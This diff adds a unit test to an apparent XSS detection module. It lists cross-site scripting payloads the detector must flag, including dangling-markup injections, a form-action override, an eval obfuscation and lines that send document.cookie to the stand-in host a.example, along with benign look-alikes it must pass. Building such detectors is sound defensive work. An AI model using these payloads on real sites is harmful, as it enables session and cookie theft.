@@ -259,5 +259,22 @@ TEST(Xss, AttributesAndSchemesInPieces) {
     EXPECT_LT(points(text), kThreshold) << text;
 }
 
+TEST(Xss, WhatIsLeftOpenOrLoadedFromElsewhere) {
+  for (const char* text :
+       {"<img src='//a.example/?", "<img src=\"https://a.example/log?leak=", "<img src=//a.example/?x='",
+        "<base target='", "<table background='//a.example/?", "<button type=submit formaction='//a.example'>x",
+        "<component is=script src=//a.example>", "<div ng-include=\"'//a.example/x.html'\"></div>",
+        "\"ale\".concat(\"rt(1)\").replace(/.+/,eval)", "'});top.postMessage(document.cookie,`*`);({a:'",
+        "new Image().src='//a.example/?'+document.cookie;"}) {
+    EXPECT_GE(points(text), kThreshold) << text;
+  }
+  for (const char* text :
+       {"<img src=\"https://a.example/a.png", "<img src='//a.example/?x=1'>", "<button formaction=\"/save\">x</button>",
+        "<div ng-include=\"'views/x.html'\"></div>", "read document.cookie, then localStorage", "call map(x,evaluate)",
+        "<base target=\"_blank\">"}) {
+    EXPECT_LT(points(text), kThreshold) << text;
+  }
+}
+
 }  // namespace
 }  // namespace onesec::inspect
